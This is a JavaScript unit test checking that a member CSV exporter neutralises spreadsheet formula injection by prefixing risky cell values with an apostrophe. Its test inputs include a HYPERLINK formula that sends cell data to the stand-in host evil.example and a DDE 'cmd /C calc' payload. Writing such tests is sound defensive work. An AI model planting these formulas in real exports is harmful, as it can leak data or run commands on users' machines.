const rowOf = (name, boat = 'Gull', paid = 40) => memberCsv([{ name, boat, paid }]).slice('name,boat,paid\r\n'.length, -2);

assert.strictEqual(rowOf('=1+1'), "'=1+1,Gull,40");
assert.strictEqual(rowOf('=HYPERLINK("http://evil.example/"&A1)'), '"\'=HYPERLINK(""http://evil.example/""&A1)",Gull,40');
assert.strictEqual(rowOf('+cmd|\' /C calc\'!A0'), "'+cmd|' /C calc'!A0,Gull,40");
assert.strictEqual(rowOf('-2+3'), "'-2+3,Gull,40");
assert.strictEqual(rowOf('@SUM(A1)'), "'@SUM(A1),Gull,40");
assert.strictEqual(rowOf('\t=1'), "'\t=1,Gull,40");
assert.strictEqual(rowOf('\r=1'), '"\'\r=1",Gull,40');
assert.strictEqual(rowOf('Ida', '=1+1'), "Ida,'=1+1,40");
assert.strictEqual(rowOf('Ida', '@x,y'), 'Ida,"\'@x,y",40');
